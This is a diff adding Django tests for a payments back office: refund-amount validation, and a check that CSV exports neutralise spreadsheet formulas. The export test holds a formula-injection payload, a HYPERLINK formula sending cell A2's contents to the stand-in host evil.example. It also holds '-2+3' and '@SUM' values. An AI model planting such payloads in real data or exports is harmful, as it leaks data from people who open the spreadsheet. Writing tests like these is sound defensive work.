@@ -19,6 +19,7 @@ from django.utils import timezone
 from gateways.card.simulator import cards
 from gateways.models import CallbackOutcome, Gateway, GatewayCallback, GatewaySwitch
 from notifications.models import Notification, NotificationChannel
+from payments.exceptions import InvalidRefund
 from payments.models import (
     DiscrepancyKind,
     GatewayOperation,
@@ -29,6 +30,7 @@ from payments.models import (
     PaymentStatus,
     ReconciliationDiscrepancy,
 )
+from payments.refunds.services import refund_check_amount
 from payments.services import payment_fail, payment_flag_for_review
 from tests.back_office import back_office_sign_in, manager, reviewer
 from tests.factories import OrderFactory, PaymentFactory, StaffFactory, UserFactory
@@ -370,6 +372,26 @@ def test_a_manager_refunds_part_of_a_payment_through_the_gateway_with_a_reason(
     assert (asked.actor, asked.data["reason"]) == (staff, "one tin arrived dented")
 
 
+@pytest.mark.parametrize("amount", ["1" + "0" * 14, "1" + "0" * 29, "0.001"])
+def test_an_amount_no_money_field_holds_is_a_form_error_and_refunds_nothing(client, pay, amount):
+    payment = pay(cards.APPROVE)
+    back_office_sign_in(client, manager())
+    client.raise_request_exception = False
+
+    response = act(client, "refund", [payment], amount=amount, reason="typed one key too long")
+
+    assert response.status_code == 200  # the form again, saying what is wrong
+    assert "errorlist" in page(response)
+    assert not payment.operations.filter(kind=OperationKind.REFUND).exists()
+
+
+def test_an_amount_past_decimal_precision_is_refused_as_more_than_is_left():
+    with pytest.raises(InvalidRefund) as refused:
+        refund_check_amount(Decimal("1" + "0" * 40), left=Decimal("960"), currency="TWD")
+
+    assert refused.value.fields == {"amount": ["At most 960 TWD is left to refund."]}
+
+
 def test_a_refund_above_the_threshold_waits_for_a_second_manager(
     client, pay, settings, django_capture_on_commit_callbacks
 ):
@@ -461,6 +483,21 @@ def test_a_manager_exports_the_selection_as_csv_and_the_export_is_on_the_timelin
     assert rows[0]["amount"] == "500.00"
     for payment in payments:
         assert payment.events.get(type="exported").actor == staff
+
+
+def test_the_export_writes_no_cell_a_spreadsheet_would_run(client):
+    addresses = ['=HYPERLINK("http://evil.example/?x="&A2)@example.com', "-2+3@example.com"]
+    payments = [
+        PaymentFactory.create(user=UserFactory.create(email=email), gateway_reference=f"@SUM({n})")
+        for n, email in enumerate(addresses)
+    ]
+    back_office_sign_in(client, manager())
+
+    rows = list(csv.DictReader(io.StringIO(act(client, "export_csv", payments).content.decode())))
+
+    assert [row["customer"] for row in rows] == [f"'{email}" for email in addresses]
+    assert [row["gateway_reference"] for row in rows] == ["'@SUM(0)", "'@SUM(1)"]
+    assert rows[0]["amount"] == "500.00"
 
 
 def test_a_manager_pauses_and_unpauses_a_gateway_saying_why(client):
